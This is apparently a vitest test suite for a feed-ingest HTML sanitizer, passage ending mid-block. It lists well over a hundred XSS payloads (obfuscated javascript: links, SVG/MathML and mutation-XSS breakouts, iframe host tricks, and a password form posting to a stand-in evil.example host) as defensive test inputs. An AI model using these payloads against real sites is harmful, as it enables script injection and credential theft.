// XSS regression table and a seeded property check for the ingest sanitizer.
// Every vector is judged by an independent checker that re-parses the output the way a reader's page would.
import { parseDocument } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { htmlToText, IFRAME_ORIGINS, MAX_CONTENT_LENGTH, sanitizeContent } from '../../src/pipeline/sanitize.js';
import { rng } from '../helpers/feed-gen.js';

const BASE = 'https://blog.example/2024/post.html';

type Node = ReturnType<typeof parseDocument>['children'][number];
interface El {
  name: string;
  attribs: Record<string, string>;
  children: Node[];
}
const isEl = (n: Node): n is Node & El => n.type === 'tag' || n.type === 'script' || n.type === 'style';

function elements(html: string): El[] {
  const out: El[] = [];
  const walk = (nodes: Node[]): void => {
    for (const n of nodes) {
      if (isEl(n)) {
        out.push(n);
        walk(n.children);
      }
    }
  };
  walk(parseDocument(html).children);
  return out;
}

// The checker's own idea of what may appear; kept apart from the module's table on purpose.
const OUTPUT_TAGS = new Set(
  ('p br hr div span wbr b strong i em u s mark small big sub sup kbd samp var code pre blockquote q cite dfn abbr ' +
    'del ins time bdi bdo ruby rt rp h3 h4 h5 h6 ul ol li dl dt dd table caption colgroup col thead tbody tfoot tr th td ' +
    'figure figcaption picture img source video audio track iframe details summary a').split(' '),
);
const URL_ATTRS = new Set(['href', 'src', 'poster', 'cite', 'action', 'formaction', 'background', 'data', 'longdesc', 'xlink:href', 'codebase', 'dynsrc', 'lowsrc', 'ping']);
const FORBIDDEN_ATTRS = new Set(['style', 'class', 'id', 'name', 'srcdoc', 'target', 'form', 'autofocus', 'http-equiv', 'content', 'xmlns']);

/** What a browser does to an attribute value before reading its scheme. */
function schemeOf(value: string): string | null {
  const cleaned = value.replace(/^[\u0000-\u0020]+|[\u0000-\u0020]+$/g, '').replace(/[\t\n\r]/g, '');
  const m = /^([a-z][a-z0-9+.-]*):/i.exec(cleaned);
  return m?.[1]?.toLowerCase() ?? null;
}

function urlProblem(tag: string, attr: string, value: string): string | null {
  const scheme = schemeOf(value);
  if (scheme === null) return `${tag}[${attr}] not absolute: ${value}`;
  if (scheme === 'http' || scheme === 'https') return null;
  if (scheme === 'mailto' && tag === 'a' && attr === 'href') return null;
  if (scheme === 'data' && tag === 'img' && attr === 'src' && /^data:image\/(png|gif|jpeg|webp|avif)[;,]/i.test(value)) return null;
  return `${tag}[${attr}] scheme ${scheme}`;
}

/** Every executable or page-breaking construct found in sanitized output (empty when safe). */
function problems(html: string): string[] {
  const found: string[] = [];
  for (const el of elements(html)) {
    if (!OUTPUT_TAGS.has(el.name)) found.push(`element ${el.name}`);
    for (const [attr, value] of Object.entries(el.attribs)) {
      if (/^on/i.test(attr)) found.push(`handler ${el.name}[${attr}]`);
      if (FORBIDDEN_ATTRS.has(attr)) found.push(`attribute ${el.name}[${attr}]`);
      if (URL_ATTRS.has(attr)) {
        const p = urlProblem(el.name, attr, value);
        if (p) found.push(p);
      }
      if (attr === 'srcset') {
        for (const candidate of value.split(/,\s+/)) {
          const p = urlProblem(el.name, attr, candidate.trim().split(/\s+/)[0] ?? '');
          if (p) found.push(p);
        }
      }
    }
    if (el.name === 'iframe') {
      const src = el.attribs.src ?? '';
      if (!IFRAME_ORIGINS.some((o) => src.startsWith(o + '/'))) found.push(`iframe from ${src}`);
      if (!el.attribs.sandbox) found.push('iframe without sandbox');
      if (el.children.length > 0) found.push('iframe with content');
    }
    if (el.name === 'a' && el.attribs.rel !== 'nofollow noopener noreferrer') found.push(`a rel=${el.attribs.rel}`);
  }
  return found;
}

function expectSafe(input: string, base = BASE): string {
  const out = sanitizeContent(input, base);
  expect(problems(out), `input: ${input}\noutput: ${out}`).toEqual([]);
  return out;
}

type Vector = [name: string, input: string];

const eventHandlers: Vector[] = [
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['body onload', '<body onload=alert(1)>text'],
  ['div onmouseover quoted', '<div onmouseover="alert(1)">hover</div>'],
  ['a onclick with good href', '<a href="/ok" onclick="alert(1)">x</a>'],
  ['upper-case handler', '<p ONCLICK=alert(1)>x</p>'],
  ['mixed-case handler', '<img src=x.png oNeRrOr=alert(1)>'],
  ['spaces around =', '<img src=x.png onerror  =  alert(1)>'],
  ['slash separators', '<img/src=x.png/onerror=alert(1)>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>s</summary></details>'],
  ['source onerror', '<video><source src=x.mp4 onerror=alert(1)></video>'],
  ['audio onerror', '<audio src=x.mp3 onerror=alert(1)></audio>'],
  ['input onfocus autofocus', '<input autofocus onfocus=alert(1)>'],
  ['marquee onstart', '<marquee onstart=alert(1)>m</marquee>'],
  ['entity-encoded handler body', '<img src=x.png onerror="&#97;lert(1)">'],
  ['pointer event', '<p onpointerenter=alert(1)>x</p>'],
  ['handler after broken quote', '<img """><script>alert(1)</script>">'],
  ['unknown element with handler', '<x-foo onclick=alert(1)>click</x-foo>'],
  ['anchor onfocus autofocus', '<a href=/x onfocus=alert(1) autofocus>x</a>'],
  ['backtick-quoted value', '<img src=`x` onerror=alert(1)>'],
  ['handler on table', '<table onmouseenter=alert(1)><tr><td>c</td></tr></table>'],
  ['onbegin on animation', '<animate onbegin=alert(1) attributeName=x dur=1s>'],
  ['handler with newline before name', '<img src=x.png\nonerror=alert(1)>'],
];

const schemes: Vector[] = [
  ['javascript plain', '<a href="javascript:alert(1)">x</a>'],
  ['javascript mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['decimal entity j', '<a href="&#106;avascript:alert(1)">x</a>'],
  ['hex entity j', '<a href="&#x6A;avascript:alert(1)">x</a>'],
  ['zero-padded entity', '<a href="&#0000106&#0000097vascript:alert(1)">x</a>'],
  ['entity tab inside', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['entity newline inside', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  ['entity CR inside', '<a href="jav&#x0D;ascript:alert(1)">x</a>'],
  ['literal tab inside', '<a href="java\tscript:alert(1)">x</a>'],
  ['literal newline inside', '<a href="java\nscript:alert(1)">x</a>'],
  ['leading spaces', '<a href="   javascript:alert(1)">x</a>'],
  ['leading control character', '<a href="\u0001javascript:alert(1)">x</a>'],
  ['leading encoded space', '<a href="&#x20;javascript:alert(1)">x</a>'],
  ['named entity colon', '<a href="javascript&colon;alert(1)">x</a>'],
  ['numeric entity colon', '<a href="javascript&#58;alert(1)">x</a>'],
  ['named Tab entity', '<a href="java&Tab;script:alert(1)">x</a>'],
  ['named NewLine entity', '<a href="java&NewLine;script:alert(1)">x</a>'],
  ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['vbscript upper', '<a href="VBSCRIPT:msgbox(1)">x</a>'],
  ['data html link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['data html base64 link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data png in a link', '<a href="data:image/png;base64,iVBORw0KGgo=">x</a>'],
  ['data svg in img', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
  ['data html in img', '<img src="data:text/html,<script>alert(1)</script>">'],
  ['livescript', '<a href="livescript:alert(1)">x</a>'],
  ['file in img', '<img src="file:///etc/passwd">'],
  ['ftp link', '<a href="ftp://files.example/x">x</a>'],
  ['javascript with comment trick', '<a href="javascript://%0aalert(1)">x</a>'],
  ['javascript in blockquote cite', '<blockquote cite="javascript:alert(1)">q</blockquote>'],
  ['javascript in q cite', '<q cite="vbscript:x">q</q>'],
  ['javascript in video poster', '<video poster="javascript:alert(1)" src=v.mp4></video>'],
  ['javascript in audio src', '<audio src="javascript:alert(1)"></audio>'],
  ['javascript in track src', '<video src=v.mp4><track src="javascript:alert(1)"></video>'],
  ['javascript in img src', '<img src="javascript:alert(1)">'],
  ['javascript in img src entities', '<img src="&#x6a;&#x61;&#x76;&#x61;script:alert(1)">'],
  ['jar scheme', '<a href="jar:https://evil.example/x.jar!/">x</a>'],
  ['trailing-space scheme name', '<a href="javascript :alert(1)">x</a>'],
  ['unquoted javascript', '<a href=javascript:alert(1)>x</a>'],
  ['ins cite data', '<ins cite="data:text/html,x">i</ins>'],
];

const foreignContent: Vector[] = [
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg upper-case', '<SVG ONLOAD=alert(1)>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg a xlink', '<svg><a xlink:href="javascript:alert(1)"><text x=1 y=1>x</text></a></svg>'],
  ['svg animate href', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>'],
  ['svg set handler', '<svg><set attributeName=onmouseover to=alert(1) /></svg>'],
  ['svg foreignObject', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>'],
  ['svg use data', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'],
  ['svg style breakout', '<svg><style><img src=x onerror=alert(1)></style></svg>'],
  ['svg p style id', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['svg cdata desc', '<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></desc></svg>'],
  ['math maction', '<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>'],
  ['math href', '<math href="javascript:alert(1)">CLICK</math>'],
  ['math mi xlink', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>'],
  ['math annotation-xml html', '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>'],
];

const malformed: Vector[] = [
  ['double open bracket', '<<script>alert(1)//<</script>'],
  ['split script name', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['comment hides script', '<!-- <script>alert(1)</script> -->'],
  ['unclosed comment', '<!-- unclosed <img src=x onerror=alert(1)>'],
  ['bogus close tag', '</p <script>alert(1)</script>'],
  ['unterminated tag', '<img src=x onerror=alert(1)//'],
  ['script with slash attr', '<script/xss src=x.js></script>'],
  ['script newline in tag', '<script\n>alert(1)</script>'],
  ['unterminated quote', '<img src="x.png onerror=alert(1) '],
  ['unterminated a', '<a href="javascript:alert(1)"'],
  ['p swallows div', '<p><div><img src=x onerror=alert(1)></p>'],
  ['misnested inline', '<b><i>text</b></i><script>alert(1)</script>'],
  ['cdata in html', '<![CDATA[<script>alert(1)</script>]]>'],
  ['processing instruction', '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>'],
  ['doctype then script', '<!DOCTYPE html><script>alert(1)</script>'],
  ['iframe slash src', '<iframe/src="javascript:alert(1)">'],
  ['a slash href', '<a/href="javascript:alert(1)">x</a>'],
  ['null byte in tag name', '<scri\u0000pt>alert(1)</scri\u0000pt>'],
  ['nested comment markers', '<!--><img src=x onerror=alert(1)>-->'],
  ['bang comment short', '<!--->x<script>alert(1)</script>'],
  ['end tag with attributes', '<p>x</p onclick=alert(1)>'],
  ['deep nesting', '<div>'.repeat(300) + '<img src=x onerror=alert(1)>' + '</div>'.repeat(300)],
  ['unclosed everything', '<table><tr><td><ul><li><b><i><a href=/x>y'],
];

const css: Vector[] = [
  ['style attribute', '<p style="color:red">x</p>'],
  ['style url javascript', '<div style="background:url(javascript:alert(1))">x</div>'],
  ['style expression', '<div style="width: expression(alert(1))">x</div>'],
  ['style expression with comment', '<img src=x.png style="x:expr/**/ession(alert(1))">'],
  ['style element import', "<style>@import 'https://evil.example/x.css';</style><p>x</p>"],
  ['style element hides page', '<style>body{display:none}</style>'],
  ['link stylesheet', '<link rel=stylesheet href=https://evil.example/x.css>'],
  ['overlay style', '<div style="position:fixed;inset:0;z-index:99999">fake login</div>'],
  ['moz binding', '<p style="-moz-binding:url(x.xml#xss)">x</p>'],
  ['behavior htc', '<p style="behavior:url(x.htc)">x</p>'],
  ['class and id collide with page', '<span class="admin-only hidden" id="login">x</span>'],
  ['table background javascript', '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'],
  ['body background', '<body background="javascript:alert(1)">x'],
];

const documentLevel: Vector[] = [
  ['base href', '<base href="https://evil.example/"><a href="/x">x</a>'],
  ['base javascript', '<base href="javascript:/"><a href="/x">x</a>'],
  ['meta refresh javascript', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['meta refresh away', '<meta http-equiv=refresh content="0; url=https://evil.example">'],
  ['meta charset utf-7', '<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  ['link import', '<link rel=import href=https://evil.example/x.html>'],
  ['link prefetch', '<link rel=prefetch href=https://evil.example/track>'],
  ['head with title', '<head><title>t</title><script>alert(1)</script></head><p>x</p>'],
];

const forms: Vector[] = [
  ['form action javascript', '<form action="javascript:alert(1)"><input type=submit></form>'],
  ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['input image onerror', '<input type=image src=x onerror=alert(1)>'],
  ['form button formaction', '<form><button formaction=javascript:alert(1)>x</button></form>'],
  ['isindex', '<isindex action=javascript:alert(1) type=image>'],
  ['select option', '<select><option>a</option><option onclick=alert(1)>b</option></select>'],
  ['password phishing', '<form action=https://evil.example/steal>Password: <input type=password name=p></form>'],
  ['keygen autofocus', '<keygen autofocus onfocus=alert(1)>'],
  ['form attribute elsewhere', '<form id=f action=https://evil.example></form><button form=f>go</button>'],
];

const iframes: Vector[] = [
  ['disallowed origin', '<iframe src="https://evil.example/embed/x"></iframe>'],
  ['srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['javascript src', '<iframe src="javascript:alert(1)"></iframe>'],
  ['data src', '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'],
  ['lookalike suffix host', '<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>'],
  ['host in path', '<iframe src="https://evil.example/www.youtube.com/embed/x"></iframe>'],
  ['credentials trick', '<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>'],
  ['user info on allowed host', '<iframe src="https://user:pw@www.youtube.com/embed/x"></iframe>'],
  ['non-default port', '<iframe src="https://www.youtube.com:8443/embed/x"></iframe>'],
  ['watch page not embed', '<iframe src="https://www.youtube.com/watch?v=x"></iframe>'],
  ['vimeo api path', '<iframe src="https://player.vimeo.com/api/player.js"></iframe>'],
  ['dot-dot out of embed', '<iframe src="https://www.youtube.com/embed/../redirect?q=x"></iframe>'],
  ['encoded dot-dot', '<iframe src="https://www.youtube.com/embed/%2e%2e/redirect"></iframe>'],
  ['protocol-relative evil', '<iframe src="//evil.example/embed/x"></iframe>'],
  ['relative resolves to blog', '<iframe src="/embed/x"></iframe>'],
  ['allowed src plus srcdoc', '<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>alert(1)</script>"></iframe>'],
  ['allowed src plus handler and sandbox', '<iframe src="https://www.youtube.com/embed/x" sandbox="allow-top-navigation" onload=alert(1)></iframe>'],
  ['content inside allowed iframe', '<iframe src="https://www.youtube.com/embed/x"><img src=x onerror=alert(1)></iframe>'],
  ['frame element', '<frameset><frame src="javascript:alert(1)"></frameset>'],
  ['empty embed id', '<iframe src="https://www.youtube.com/embed/"></iframe>'],
];

const plugins: Vector[] = [
  ['object data javascript', '<object data="javascript:alert(1)"></object>'],
  ['object with param', '<object data=x.swf><param name=allowScriptAccess value=always></object>'],
  ['embed javascript', '<embed src="javascript:alert(1)">'],
  ['embed svg data', '<embed src="data:image/svg+xml;base64,PHN2Zz4=">'],
  ['applet', '<applet code=X.class>fallback</applet>'],
  ['object html fallback', '<object type=text/html data=//evil.example><img src=x onerror=alert(1)></object>'],
];

const mutation: Vector[] = [
  ['noscript title breakout', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['textarea breakout', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
  ['title breakout', '<title><img title="</title><img src=x onerror=alert(1)>"></title>'],
  ['math mglyph style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['math h1 a svg style', '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>"></style></mtext></svg></mglyph></h1></mtext></math>'],
  ['nested form math', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['xmp breakout', '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>'],
  ['noembed breakout', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'],
  ['noframes breakout', '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>'],
  ['iframe content breakout', '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>'],
  ['plaintext', '<plaintext><script>alert(1)</script>'],
  ['escaped markup in attribute', '<a href=/x title="&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;">x</a>'],
  ['escaped markup in text', '<p>&lt;img src=x onerror=alert(1)&gt;</p>'],
  ['select style', '<select><style><img src=x onerror=alert(1)></style></select>'],
  ['table style', '<table><style><img src=x onerror=alert(1)></style></table>'],
];

const templates: Vector[] = [
  ['template img', '<template><img src=x onerror=alert(1)></template>'],
  ['template script', '<template><script>alert(1)</script></template>'],
  ['declarative shadow root', '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>'],
  ['template style', '<template><style>*{display:none}</style></template>x'],
];

const srcsets: Vector[] = [
  ['javascript only candidate', '<img src=ok.png srcset="javascript:alert(1) 1x">'],
  ['javascript second candidate', '<img src=ok.png srcset="ok.png 1x, javascript:alert(1) 2x">'],
  ['data html candidate', '<img src=ok.png srcset="data:text/html,<script>alert(1)</script> 1x">'],
  ['picture source javascript', '<picture><source srcset="javascript:alert(1)"><img src=x.png></picture>'],
  ['entity tab candidate', '<img src=ok.png srcset=" jav&#x09;ascript:alert(1) 2x">'],
  ['descriptor hides url', '<img src=ok.png srcset="ok.png foo(javascript:alert(1))">'],
  ['protocol-relative candidate', '<img src=ok.png srcset="//evil.example/t.png 2x">'],
  ['data png candidate', '<img src=ok.png srcset="data:image/png;base64,AAAA 2x">'],
];

const protocolRelative: Vector[] = [
  ['link', '<a href="//evil.example">x</a>'],
  ['img', '<img src="//evil.example/x.png">'],
  ['backslashes', '<a href="\\\\evil.example">x</a>'],
  ['slash backslash', '<a href="/\\evil.example">x</a>'],
  ['triple slash', '<a href="///evil.example">x</a>'],
];

const relativeSurvives: Vector[] = [
  ['percent-encoded letter in scheme', '<a href="jav%61script:alert(1)">x</a>'],
  ['percent-encoded colon', '<a href="javascript%3Aalert(1)">x</a>'],
  ['entity-spelled scheme and colon', '<a href="&#x6a;&#x61;vascript&#x3a;alert(1)">x</a>'],
  ['shift-out control prefix', '<a href="&#14;javascript:alert(1)">x</a>'],
  ['null inside scheme', '<a href="java\u0000script:alert(1)">x</a>'],
  ['fragment that looks like scheme', '<a href="#javascript:alert(1)">x</a>'],
  ['query that looks like scheme', '<a href="?javascript:alert(1)">x</a>'],
  ['dot-slash scheme', '<a href="./javascript:alert(1)">x</a>'],
  ['colon in path only', '<img src="images/a:b.png">'],
];

const hostileBases: [name: string, input: string, base: string][] = [
  ['javascript base lends its scheme to a fragment', '<a href="#x">x</a>', 'javascript:alert(1)'],
  ['data base', '<a href="#x">x</a><img src="i.png">', 'data:text/html,<script>alert(1)</script>'],
  ['unparsable base', '<a href="rel">x</a>', 'not a url'],
  ['empty base', '<img src="i.png"><a href="/x">y</a>', ''],
];

const groups: [kind: string, vectors: Vector[]][] = [
  ['event handler attributes', eventHandlers],
  ['schemes hidden with entities, whitespace, case', schemes],
  ['SVG and MathML', foreignContent],
  ['malformed markup', malformed],
  ['CSS', css],
  ['base, meta, link, head', documentLevel],
  ['forms', forms],
  ['iframes', iframes],
  ['object, embed, applet', plugins],
  ['mutation XSS', mutation],
  ['template', templates],
  ['srcset', srcsets],
  ['protocol-relative URLs', protocolRelative],
  ['relative link survives, then is resolved and re-checked', relativeSurvives],
];

const VECTOR_COUNT = groups.reduce((n, [, v]) => n + v.length, 0) + hostileBases.length;

describe('sanitizeContent: XSS vectors', () => {
  it(`has at least 120 vectors (${VECTOR_COUNT})`, () => {
    expect(VECTOR_COUNT).toBeGreaterThanOrEqual(120);
  });

  describe.each(groups)('%s', (_kind, vectors) => {
    it.each(vectors)('%s', (_name, input) => {
      const out = expectSafe(input);
      expect(out).not.toMatch(/<\/?(script|style|svg|math|object|embed|form|input|base|meta|link|template|noscript)\b/i);
      expect(sanitizeContent(out, BASE)).toBe(out);
    });
  });

  it.each(hostileBases)('hostile base: %s', (_name, input, base) => {
    const out = expectSafe(input, base);
    expect(out).not.toMatch(/(javascript|data):/i);
  });
});

describe('sanitizeContent: specific outcomes of vectors', () => {
  it.each<[string, string, string]>([
    ['handler stripped, image kept', '<img src=x.png onerror=alert(1)>', '<img src="https://blog.example/2024/x.png" loading="lazy">'],
    ['hidden javascript link loses href, keeps text', '<p><a href="jav&#x09;ascript:alert(1)">x</a></p>', '<p>x</p>'],
    ['svg dropped with its text', '<p>a<svg><text>icon</text></svg>b</p>', '<p>ab</p>'],
    ['math dropped with its text', '<p>a<math><mi>x</mi></math>b</p>', '<p>ab</p>'],
    ['split script leaves inert text', '<scr<script>ipt>alert(1)</script>', 'ipt&gt;alert(1)'],
    ['unclosed tags closed', '<p>unclosed <b>bold <i>it', '<p>unclosed <b>bold <i>it</i></b></p>'],
    ['style and class gone', '<p style="color:red" class="c" id="i">x</p>', '<p>x</p>'],
    ['srcset keeps good candidates', '<img src=a.png srcset="b.png 2x, javascript:alert(1) 3x">', '<img src="https://blog.example/2024/a.png" srcset="https://blog.example/2024/b.png 2x" loading="lazy">'],
    ['percent-encoded scheme becomes an inert relative link', '<a href="javascript%3Aalert(1)">x</a>', '<a href="https://blog.example/2024/javascript%3Aalert(1)" rel="nofollow noopener noreferrer">x</a>'],
    ['fragment resolved against base', '<a href="#fn1">1</a>', '<a href="https://blog.example/2024/post.html#fn1" rel="nofollow noopener noreferrer">1</a>'],
    ['protocol-relative link resolved to https', '<a href="//evil.example/x">x</a>', '<a href="https://evil.example/x" rel="nofollow noopener noreferrer">x</a>'],
    ['escaped text stays escaped', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>'],
    ['javascript base drops the fragment link', '<a href="#x">x</a>', 'x'],
  ])('%s', (_name, input, expected) => {
    const base = _name.startsWith('javascript base') ? 'javascript:alert(1)' : BASE;
    expect(sanitizeContent(input, base)).toBe(expected);
  });
});

const YT_ATTRS =
  'sandbox="allow-scripts allow-same-origin allow-presentation allow-popups allow-popups-to-escape-sandbox" loading="lazy" allowfullscreen referrerpolicy="strict-origin-when-cross-origin"';

describe('sanitizeContent: what is kept', () => {
  it.each<[string, string, string]>([
    ['relative img resolved', '<img src="../img/a.png" alt="A">', '<img src="https://blog.example/img/a.png" alt="A" loading="lazy">'],
    ['root-relative link resolved', '<a href="/about">about</a>', '<a href="https://blog.example/about" rel="nofollow noopener noreferrer">about</a>'],
    ['rel replaced, target dropped, title and hreflang kept', '<a href="https://x.example/" rel="me author" target="_blank" title="T" hreflang="fr">x</a>', '<a href="https://x.example/" hreflang="fr" title="T" rel="nofollow noopener noreferrer">x</a>'],
    ['mailto link kept', '<a href="mailto:me@blog.example">mail</a>', '<a href="mailto:me@blog.example" rel="nofollow noopener noreferrer">mail</a>'],
    ['youtube embed', '<iframe src="https://www.youtube.com/embed/abc123?start=5" width="560" height="315"></iframe>', `<iframe src="https://www.youtube.com/embed/abc123?start=5" width="560" height="315" ${YT_ATTRS}></iframe>`],
    ['youtube without www', '<iframe src="https://youtube.com/embed/abc"></iframe>', `<iframe src="https://youtube.com/embed/abc" ${YT_ATTRS}></iframe>`],
    ['youtube-nocookie', '<iframe src="https://www.youtube-nocookie.com/embed/abc"></iframe>', `<iframe src="https://www.youtube-nocookie.com/embed/abc" ${YT_ATTRS}></iframe>`],
    ['vimeo', '<iframe src="https://player.vimeo.com/video/76979871"></iframe>', `<iframe src="https://player.vimeo.com/video/76979871" ${YT_ATTRS}></iframe>`],
    ['http player upgraded to https', '<iframe src="http://www.youtube.com/embed/abc"></iframe>', `<iframe src="https://www.youtube.com/embed/abc" ${YT_ATTRS}></iframe>`],
    ['protocol-relative player', '<iframe src="//player.vimeo.com/video/1"></iframe>', `<iframe src="https://player.vimeo.com/video/1" ${YT_ATTRS}></iframe>`],
    ['data png image kept', '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">', '<img src="data:image/png;base64,iVBORw0KGgo=" alt="" loading="lazy">'],
    ['data gif image kept', '<img src="data:image/gif;base64,R0lGODlh">', '<img src="data:image/gif;base64,R0lGODlh" loading="lazy">'],
    ['tracking pixel removed', '<p>x<img src="https://t.example/p.gif" width="1" height="1"></p>', '<p>x</p>'],
    ['tracking pixel in px removed', '<img src="/p.gif" width="1px" height="1px">', ''],
    ['zero-size pixel removed', '<img src="/p.gif" width=0 height=0>', ''],
    ['thin divider image kept', '<img src="/line.png" width="600" height="1">', '<img src="https://blog.example/line.png" width="600" height="1" loading="lazy">'],
    ['img without src dropped', '<p><img alt="x"></p>', '<p></p>'],
    ['h1 and h2 clamped to h3', '<h1>A</h1><h2>B</h2><h4>C</h4>', '<h3>A</h3><h3>B</h3><h4>C</h4>'],
    ['sections become divs', '<section><p>a</p></section><article>b</article>', '<div><p>a</p></div><div>b</div>'],
    ['table structure kept', '<table><thead><tr><th colspan="2" scope="col">h</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>', '<table><thead><tr><th colspan="2" scope="col">h</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>'],
    ['code and pre kept', '<pre><code>a &lt; b &amp;&amp; c</code></pre>', '<pre><code>a &lt; b &amp;&amp; c</code></pre>'],
    ['details and summary kept', '<details open><summary>More</summary><p>x</p></details>', '<details open><summary>More</summary><p>x</p></details>'],
    ['blockquote cite resolved', '<blockquote cite="/src">q</blockquote>', '<blockquote cite="https://blog.example/src">q</blockquote>'],
    ['video gets controls, loses autoplay', '<video src="v.mp4" autoplay poster="p.jpg"><track src="c.vtt" kind="captions" srclang="en"></video>', '<video src="https://blog.example/2024/v.mp4" poster="https://blog.example/2024/p.jpg" controls><track src="https://blog.example/2024/c.vtt" kind="captions" srclang="en"></video>'],
    ['picture with sources', '<picture><source srcset="a.avif" type="image/avif"><img src="a.jpg" alt="a"></picture>', '<picture><source srcset="https://blog.example/2024/a.avif" type="image/avif"><img src="https://blog.example/2024/a.jpg" alt="a" loading="lazy"></picture>'],
    ['figure with caption', '<figure><img src="/f.png" alt=""><figcaption>cap</figcaption></figure>', '<figure><img src="https://blog.example/f.png" alt="" loading="lazy"><figcaption>cap</figcaption></figure>'],
    ['abbr title and lang kept', '<p lang="fr" dir="rtl"><abbr title="HyperText">HTML</abbr></p>', '<p lang="fr" dir="rtl"><abbr title="HyperText">HTML</abbr></p>'],
    ['entities decoded once, non-breaking space kept', '<p>caf&eacute;&nbsp;&amp; cr&#xE8;me</p>', '<p>café\u00a0&amp; crème</p>'],
  ])('%s', (_name, input, expected) => {
    const out = sanitizeContent(input, BASE);
    expect(out).toBe(expected);
    expect(problems(out)).toEqual([]);
    expect(sanitizeContent(out, BASE)).toBe(out);
  });

  it('survives 20,000 nested elements without exhausting the stack', () => {
    const out = expectSafe('<div><b>'.repeat(10_000) + '<img src=x onerror=alert(1)>deep');
    expect(htmlToText(out)).toBe('deep');
  });

  it.each<[string, string]>([
    ['empty', ''],
    ['plain text', 'just text'],
  ])('%s stays as it is', (_name, input) => {
    expect(sanitizeContent(input, BASE)).toBe(input);
  });

  it('exports the frame origins for the Content-Security-Policy', () => {
    expect(IFRAME_ORIGINS).toEqual([
      'https://www.youtube.com',
      'https://youtube.com',
      'https://www.youtube-nocookie.com',
      'https://player.vimeo.com',
    ]);
  });
});

describe('sanitizeContent: bounds on hostile input', () => {
  it('treats element names that are Object.prototype keys as unknown elements', () => {
    const input = '<constructor>a</constructor><CONSTRUCTOR title=x>b</CONSTRUCTOR><hasOwnProperty>c</hasOwnProperty><toString>d';
    expect(expectSafe(input)).toBe('abcd');
  });

  it('keeps dropping, past the nesting limit, what is dropped with its contents', () => {
    const input = '<div>'.repeat(150) + '<script>alert(1)</script><svg><text>icon</text></svg><iframe>raw</iframe><textarea>t</textarea>text';
    const out = expectSafe(input);
    expect(htmlToText(out)).toBe('text');
    expect(sanitizeContent(out, BASE)).toBe(out);
  });

  it('keeps all the text of markup nested past the parser depth bound, once', () => {
    const out = expectSafe('<b>a'.repeat(1500) + '<script>alert(1)</script>end');
    expect(htmlToText(out)).toBe('a'.repeat(1500) + 'end');
    expect(sanitizeContent(out, BASE)).toBe(out);
  });

  it('parses 300,000 nested tags in linear time', () => {
    const start = performance.now();
    const out = expectSafe('<b>'.repeat(300_000) + 'deep');
    expect(htmlToText(out)).toBe('deep');
    expect(performance.now() - start).toBeLessThan(10_000); // minutes when the parser's stack was unbounded
  });

  it('cuts content longer than MAX_CONTENT_LENGTH before a tag near the limit', () => {
    const filler = 'a'.repeat(MAX_CONTENT_LENGTH - 20);
    const out = expectSafe('<p>' + filler + '<img src="javascript:alert(1)" onerror=alert(1)><a href="/x">tail</a></p>');
    expect(out).toBe('<p>' + filler + '</p>');
  });

  it('never cuts inside a surrogate pair', () => {
    const out = expectSafe('x'.repeat(MAX_CONTENT_LENGTH - 1) + '\u{1F600}'.repeat(10));
    expect(out.length).toBe(MAX_CONTENT_LENGTH - 1);
    expect(out).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/);
  });
});

describe('htmlToText', () => {
  it.each<[string, string, string]>([
    ['tags stripped, entities decoded', '<b>Foo</b> &amp; <i>Bar</i>', 'Foo & Bar'],
    ['whitespace collapsed', '  a \n\t b  ', 'a b'],
    ['blocks separate words', '<p>one</p><p>two</p>three<br>four', 'one two three four'],
    ['script and style contents dropped', 'a<script>alert(1)</script><style>p{}</style>b', 'ab'],
